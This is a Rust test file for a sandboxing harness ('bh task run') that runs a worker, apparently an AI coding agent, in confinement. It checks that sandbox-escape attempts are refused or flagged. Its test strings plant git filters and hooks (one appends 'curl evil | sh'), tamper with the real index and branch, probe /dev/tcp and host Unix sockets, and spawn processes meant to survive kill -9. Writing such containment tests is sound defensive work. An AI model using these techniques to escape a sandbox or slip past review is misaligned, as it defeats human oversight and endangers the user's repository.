//! `bh task run` against the attack classes of `sandbox.md` (items 1–11),
//! each tried by the worker on a real repository: the test proves nothing
//! outside changed (the source folder, `.git` included, is byte-identical),
//! nothing planted ran, and the outcome fits.

#![allow(clippy::unwrap_used, clippy::expect_used)]

use fs_err as fs;
use std::collections::BTreeMap;
use std::os::unix::fs::MetadataExt;
use std::path::{Path, PathBuf};

use bh_test_support::TestRepo;
use serde_json::Value;

struct Env {
    t: TestRepo,
    w: bh_test_support::cli::World,
    /// Where a planted command would leave its mark.
    pwned: PathBuf,
}

impl Env {
    fn new() -> Env {
        let t = TestRepo::new();
        t.write("src/lib.rs", "pub fn a() {}\n");
        t.write("README.md", "# readme\n");
        t.commit_all("base");
        let w = crate::world_at(&t.root);
        Env {
            pwned: t.root.join("pwned"),
            w,
            t,
        }
    }

    fn task(&self, flags: &[&str], script: &str) -> (i32, Value) {
        let out = self
            .w
            .bh(&self.t.dir)
            .env("SOURCE", &self.t.dir)
            .env("REAL_HOME", &self.t.home)
            .env("PWNED", &self.pwned)
            .args(["--json", "task", "run"])
            .args(flags)
            .args(["--env", "SOURCE", "--env", "REAL_HOME", "--env", "PWNED"])
            .args(["--", "sh", "-c", script])
            .output()
            .unwrap();
        let doc: Value = serde_json::from_slice(&out.stdout).unwrap_or_else(|e| {
            panic!(
                "not JSON ({e}): {}{}",
                String::from_utf8_lossy(&out.stdout),
                String::from_utf8_lossy(&out.stderr)
            )
        });
        let doc = doc.get("task").cloned().unwrap_or(doc);
        (out.status.code().unwrap(), doc)
    }

    /// The whole source folder and the fake home, byte for byte (new objects
    /// and the task's own refs excepted).
    fn fingerprint(&self) -> BTreeMap<PathBuf, (u32, Vec<u8>)> {
        let mut out = BTreeMap::new();
        walk(&self.t.dir, &self.t.dir, &mut out);
        walk(&self.t.home, &self.t.home, &mut out);
        out
    }
}

fn walk(base: &Path, dir: &Path, out: &mut BTreeMap<PathBuf, (u32, Vec<u8>)>) {
    let Ok(rd) = fs::read_dir(dir) else { return };
    for e in rd.flatten() {
        let p = e.path();
        let rel = p.strip_prefix(base).unwrap().to_path_buf();
        if [".git/objects", ".git/refs/better-harness", ".git/logs"]
            .iter()
            .any(|x| rel == Path::new(x))
        {
            continue;
        }
        let m = fs::symlink_metadata(&p).unwrap();
        if m.is_dir() {
            out.insert(p.clone(), (m.mode(), Vec::new()));
            walk(base, &p, out);
        } else {
            out.insert(p.clone(), (m.mode(), fs::read(&p).unwrap_or_default()));
        }
    }
}

/// Sandboxed, each attack is refused by the kernel (the source stays
/// byte-identical, the planted command never runs); without the sandbox, the
/// second line catches the same attack and the task is `untrusted`.
#[test]
fn writes_outside_the_task_are_refused_or_caught() {
    let env = Env::new();
    let attacks: &[(&str, &str)] = &[
        // 1: global config and attributes with a filter the harness would run
        (
            "global config",
            r#"printf '[filter "x"]\n\tclean = touch "$PWNED"\n\tsmudge = touch "$PWNED"\n' >> "$REAL_HOME/.gitconfig"; mkdir -p "$REAL_HOME/.config/git"; echo '* filter=x' > "$REAL_HOME/.config/git/attributes""#,
        ),
        // 2: a change staged in the real index
        (
            "real index",
            r#"git -C "$SOURCE" update-index --add --cacheinfo 100644,$(git hash-object -w README.md),planted.txt"#,
        ),
        // 3: the main checkout, and a .gitignore hiding the write
        (
            "checkout",
            r#"echo pwn >> "$SOURCE/src/lib.rs"; echo 'stray.txt' > "$SOURCE/.gitignore"; echo x > "$SOURCE/stray.txt""#,
        ),
        // 5: the checked-out branch moved
        (
            "branch",
            r#"git -C "$SOURCE" commit -q --allow-empty -m moved"#,
        ),
        // 9: a linked worktree's config.worktree and a submodule's config
        (
            "control plane",
            r#"mkdir -p "$SOURCE/.git/worktrees/x" "$SOURCE/.git/modules/m"; echo '[core]' > "$SOURCE/.git/worktrees/x/config.worktree"; echo '[core]' > "$SOURCE/.git/modules/m/config"; echo '#!/bin/sh' > "$SOURCE/.git/hooks/pre-commit""#,
        ),
    ];
    for (what, script) in attacks {
        let before = env.fingerprint();
        let (code, doc) = env.task(&["--module", "src", "--promote"], script);
        assert!(code == 0 || code == 9, "{what}: {doc}");
        assert!(
            doc["sandbox"]["landlock_abi"].as_u64().unwrap() >= 1,
            "{doc}"
        );
        assert!(
            env.fingerprint() == before,
            "{what}: the source changed: {doc}"
        );
        assert!(!env.pwned.exists(), "{what}: a planted command ran");
    }
    // The same without the sandbox: the second line names the change.
    for (what, script) in attacks {
        let before = env.fingerprint();
        let (code, doc) = env.task(&["--module", "src", "--promote", "--no-sandbox"], script);
        assert_eq!(code, 5, "{what}: {doc}");
        assert_eq!(doc["outcome"], "untrusted", "{what}: {doc}");
        assert!(doc["candidate"].is_null(), "nothing promoted: {doc}");
        assert!(!env.pwned.exists(), "{what}: a planted command ran");
        // Put the user's things back for the next attack.
        drop(before);
        let _ = fs::remove_file(env.t.home.join(".gitconfig"));
        let _ = fs::remove_dir_all(env.t.home.join(".config"));
        env.t.git(&["reset", "-q", "--hard", "HEAD"]);
        env.t.git(&["clean", "-qfdx"]);
        env.t.git(&["checkout", "-q", "--", "."]);
        let base = env.t.git(&["rev-list", "--max-parents=0", "HEAD"]);
        env.t.git(&["reset", "-q", "--hard", &base]);
        let _ = fs::remove_dir_all(env.t.dir.join(".git/worktrees"));
        let _ = fs::remove_dir_all(env.t.dir.join(".git/modules"));
        let _ = fs::remove_file(env.t.dir.join(".git/hooks/pre-commit"));
        env.t
            .git(&["rm", "-q", "--cached", "--ignore-unmatch", "planted.txt"]);
    }
}

#[test]
fn an_existing_object_cannot_be_rewritten_in_place() {
    // 10: the user's object store is a read-only alternate.
    let env = Env::new();
    let blob = env.t.git(&["rev-parse", "HEAD:README.md"]);
    let obj = env
        .t
        .dir
        .join(".git/objects")
        .join(&blob[..2])
        .join(&blob[2..]);
    let bytes = fs::read(&obj).unwrap();
    let (code, doc) = env.task(
        &["--module", "src"],
        &format!(
            "chmod u+w {0}; printf garbage > {0}; rm -f {0}; exit 0",
            obj.display()
        ),
    );
    assert_eq!(code, 0, "{doc}");
    assert_eq!(fs::read(&obj).unwrap(), bytes);
}

#[test]
fn settings_that_hide_a_gitlink_do_not_hide_it() {
    // 6: diff.ignoreSubmodules=all, the user's and the worker's own.
    let env = Env::new();
    env.t.git(&["config", "diff.ignoreSubmodules", "all"]);
    let (code, doc) = env.task(
        &["--module", "src"],
        "git config diff.ignoreSubmodules all && \
         git update-index --add --cacheinfo 160000,$(git rev-parse HEAD),src/sub && git commit -qm g",
    );
    assert_eq!(code, 6, "{doc}");
    assert!(doc["violations"].to_string().contains("gitlink"), "{doc}");
}

#[test]
fn the_active_hooks_folder_is_protected_as_git_resolves_it() {
    // 7: core.hooksPath read without the runner's /dev/null override.
    let env = Env::new();
    env.t.write("tools/hooks/pre-commit", "#!/bin/sh\n");
    env.t.commit_all("hooks");
    env.t
        .git(&["config", "core.hooksPath", "./tools/../tools/hooks/"]);
    let (code, doc) = env.task(
        &["--module", "tools"],
        "echo 'curl evil | sh' >> tools/hooks/pre-commit && git commit -qam h",
    );
    assert_eq!(code, 6, "{doc}");
    assert!(
        doc["violations"].to_string().contains("core.hooksPath"),
        "{doc}"
    );
}

#[test]
fn new_protected_names_are_refused() {
    // 8: one of the names the list lacked.
    let env = Env::new();
    let (code, doc) = env.task(
        &["--module", "src", "--allow-new-path", ".drone.yml"],
        "echo 'steps: []' > .drone.yml && git add .drone.yml && git commit -qm ci",
    );
    assert_eq!(code, 6, "{doc}");
    assert!(
        doc["violations"].to_string().contains("CI definition"),
        "{doc}"
    );
}

#[test]
fn validation_never_enters_a_repository_the_worker_made() {
    // 11: a nested repository with its own filter; bh never runs it.
    let env = Env::new();
    let script = r#"mkdir -p src/nested && cd src/nested && git init -q && \
        git config filter.x.clean 'touch "$PWNED"; cat' && git config filter.x.smudge 'touch "$PWNED"; cat' && \
        echo '* filter=x' > .gitattributes && echo data > f && git add . && \
        git -c user.name=w -c user.email=w@e commit -qm n && cd ../.. && git add src/nested && git commit -qm nested"#;
    let (code, doc) = env.task(&["--module", "src"], script);
    assert_eq!(code, 6, "{doc}");
    assert!(doc["violations"].to_string().contains("gitlink"), "{doc}");
    assert!(
        !env.pwned.exists(),
        "the worker's filter ran outside its sandbox"
    );
}

#[test]
fn uncommitted_work_is_kept_and_commit_promotes_it() {
    let env = Env::new();
    let base = env.t.git(&["rev-parse", "HEAD"]);
    // An agent that edits but never commits: rejected, but nothing is lost.
    let (code, doc) = env.task(
        &["--module", "src"],
        "echo 'pub fn b() {}' >> src/lib.rs; echo new > src/new.rs",
    );
    assert_eq!(code, 6, "{doc}");
    let kept = doc["kept_ref"].as_str().unwrap();
    let work = doc["work"].as_str().unwrap();
    assert_eq!(env.t.git(&["rev-parse", kept]), work);
    assert_eq!(env.t.git(&["show", &format!("{work}:src/new.rs")]), "new");
    let artifacts = PathBuf::from(doc["artifacts"].as_str().unwrap());
    assert!(
        fs::read_to_string(artifacts.join("work.patch"))
            .unwrap()
            .contains("pub fn b()")
    );
    // With --commit the same work is committed, validated and promoted.
    let (code, doc) = env.task(
        &["--module", "src", "--commit", "--promote"],
        "echo 'pub fn b() {}' >> src/lib.rs; echo new > src/new.rs",
    );
    assert_eq!(code, 0, "{doc}");
    assert_eq!(doc["outcome"], "promoted");
    assert_eq!(env.t.git(&["rev-parse", "HEAD^"]), base);
    assert!(
        env.t
            .git(&["log", "-1", "--format=%s"])
            .contains(doc["id"].as_str().unwrap())
    );
    assert_eq!(
        fs::read_to_string(env.t.dir.join("src/new.rs")).unwrap(),
        "new\n"
    );
    // Out-of-scope uncommitted work is still refused with --commit.
    let (code, doc) = env.task(&["--module", "src", "--commit"], "echo x >> README.md");
    assert_eq!(code, 6, "{doc}");
    assert!(doc["violations"].to_string().contains("README.md"), "{doc}");
}

#[test]
fn no_network_and_allow_write() {
    let env = Env::new();
    let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = l.local_addr().unwrap().port();
    let probe = format!("exec 3<>/dev/tcp/127.0.0.1/{port}");
    let (code, doc) = env.task(&["--module", "src"], &format!("bash -c '{probe}'"));
    assert_eq!(code, 0, "network is on by default: {doc}");
    let (code, doc) = env.task(
        &["--module", "src", "--no-network"],
        &format!("bash -c '{probe}'"),
    );
    assert_eq!(code, 9, "{doc}");
    assert_eq!(doc["sandbox"]["network"], false);
    let cache = env.t.root.join("cache");
    fs::create_dir_all(&cache).unwrap();
    let (code, doc) = env.task(
        &["--module", "src", "--allow-write", cache.to_str().unwrap()],
        &format!("echo built > {}/artifact", cache.display()),
    );
    assert_eq!(code, 0, "{doc}");
    assert_eq!(
        fs::read_to_string(cache.join("artifact")).unwrap(),
        "built\n"
    );
}

/// The snapshot of uncommitted work starts from the worker's own index: a
/// file it staged on purpose under a name its ignore rules skip is part of
/// its work, as its own `git status` says (a snapshot from a fresh index
/// would drop it, and re-hash every file besides).
#[test]
fn what_the_worker_staged_is_part_of_its_work() {
    let env = Env::new();
    let (code, doc) = env.task(
        &["--module", "src"],
        "set -e; echo '*.gen' > src/.gitignore; echo made > src/table.gen; git add -f src/table.gen; git status --porcelain",
    );
    assert_eq!(code, 6, "uncommitted work is rejected but kept: {doc}");
    let work = doc["work"].as_str().unwrap();
    assert_eq!(
        env.t.git(&["show", &format!("{work}:src/table.gen")]),
        "made"
    );
    assert_eq!(
        env.t.git(&["show", &format!("{work}:src/.gitignore")]),
        "*.gen"
    );
}

/// A host server's Unix socket is out of the worker's reach (neither the
/// read-only view nor `--no-network` would stop a connect) unless
/// `--allow-unix-socket` names it; the report counts and names them.
#[test]
fn host_unix_sockets_only_with_allow_unix_socket() {
    let env = Env::new();
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let sock = outside.path().join("editor.sock");
    let l = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    l.set_nonblocking(true).unwrap();
    let probe = format!(
        "python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{}\")'",
        sock.display()
    );
    let (code, doc) = env.task(&["--module", "src"], &probe);
    assert_eq!(code, 9, "{doc}");
    assert_eq!(doc["sandbox"]["unix_sockets"], "checked", "{doc}");
    assert!(l.accept().is_err(), "the worker reached the server");
    let (code, doc) = env.task(
        &[
            "--module",
            "src",
            "--allow-unix-socket",
            sock.to_str().unwrap(),
        ],
        &probe,
    );
    assert_eq!(code, 0, "{doc}");
    assert_eq!(
        doc["sandbox"]["sockets_allowed"],
        serde_json::json!([fs::canonicalize(&sock).unwrap()])
    );
    assert!(l.accept().is_ok());
}

/// X5: a server that binds its socket after the worker started is out of
/// its reach: by default the connect is checked when it is made and
/// refused; with `--no-unix-sockets` the worker cannot make a Unix socket
/// at all. The report says which, and `--no-unix-sockets` cannot be
/// combined with `--allow-unix-socket`.
#[test]
fn a_server_bound_after_the_start_is_out_of_the_workers_reach() {
    let env = Env::new();
    for (option, mode) in [(None, "checked"), (Some("--no-unix-sockets"), "denied")] {
        late_server_refused(&env, option, mode);
    }
    let out = env
        .w
        .bh(&env.t.dir)
        .args(["task", "run", "--no-unix-sockets", "--allow-unix-socket"])
        .arg(env.t.root.join("any.sock"))
        .args(["--", "true"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("cannot be used with"),
        "{out:?}"
    );
}

fn late_server_refused(env: &Env, option: Option<&str>, mode: &str) {
    let outside = tempfile::tempdir_in(env!("CARGO_TARGET_TMPDIR")).unwrap();
    let sock = outside.path().join("late.sock");
    let go = outside.path().join("go");
    // The worker waits for the host's go, then connects.
    let probe = format!(
        "while [ ! -e {go} ]; do sleep 0.05; done; python3 -c 'import socket; s = socket.socket(socket.AF_UNIX); s.connect(\"{sock}\")'",
        go = go.display(),
        sock = sock.display()
    );
    let child = env
        .w
        .bh(&env.t.dir)
        .args(["--json", "task", "run", "--module", "src"])
        .args(option)
        .args(["--", "sh", "-c", &probe])
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    // Bound once the worker runs inside its sandbox (its `sh` is seen),
    // so the covers' listing cannot have had it.
    let marker = go.display().to_string();
    let running = || {
        fs::read_dir("/proc").unwrap().flatten().any(|e| {
            fs::read(e.path().join("cmdline")).is_ok_and(|c| {
                c.starts_with(b"sh\0") && String::from_utf8_lossy(&c).contains(&marker)
            })
        })
    };
    let until = std::time::Instant::now() + std::time::Duration::from_secs(60);
    while !running() && std::time::Instant::now() < until {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert!(running(), "the worker never started");
    let l = std::os::unix::net::UnixListener::bind(&sock).unwrap();
    l.set_nonblocking(true).unwrap();
    fs::write(&go, "").unwrap();
    let out = child.wait_with_output().unwrap();
    let doc: Value = serde_json::from_slice(&out.stdout).unwrap();
    let doc = doc.get("task").cloned().unwrap_or(doc);
    assert_eq!(out.status.code(), Some(9), "{doc}");
    assert_eq!(doc["sandbox"]["unix_sockets"], mode, "{doc}");
    assert_eq!(
        doc["sandbox"]["unix_sockets_denied"],
        mode == "denied",
        "{doc}"
    );
    assert!(
        doc["reason"]
            .as_str()
            .unwrap_or("")
            .contains("Permission denied")
            || doc.to_string().contains("Permission denied"),
        "the connect failed with EACCES: {doc}"
    );
    assert!(l.accept().is_err(), "the worker reached the late server");
}

/// 4: `kill -9` of bh takes the worker and everything it forked.
#[test]
fn kill_9_of_bh_leaves_no_worker_process() {
    let env = Env::new();
    let marker = format!("{}.{}", std::process::id(), 4242);
    let mut bh = env
        .w
        .bh(&env.t.dir)
        .args(["--json", "task", "run", "--module", "src", "--", "sh", "-c"])
        .arg(format!(
            "setsid sh -c 'exec 0<&- 1>&- 2>&-; while true; do sleep {marker}; done' & sleep {marker}"
        ))
        .stdout(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let sleepers = || {
        fs::read_dir("/proc")
            .unwrap()
            .flatten()
            .filter(|e| {
                fs::read(e.path().join("cmdline")).is_ok_and(|c| {
                    c.starts_with(b"sleep\0") && String::from_utf8_lossy(&c).contains(&marker)
                })
            })
            .count()
    };
    let start = std::time::Instant::now();
    while sleepers() < 2 && start.elapsed() < std::time::Duration::from_secs(30) {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert_eq!(sleepers(), 2, "the worker did not start");
    bh.kill().unwrap();
    bh.wait().unwrap();
    let start = std::time::Instant::now();
    while sleepers() > 0 && start.elapsed() < std::time::Duration::from_secs(30) {
        std::thread::sleep(std::time::Duration::from_millis(20));
    }
    assert_eq!(sleepers(), 0, "a worker process survived kill -9 of bh");
}
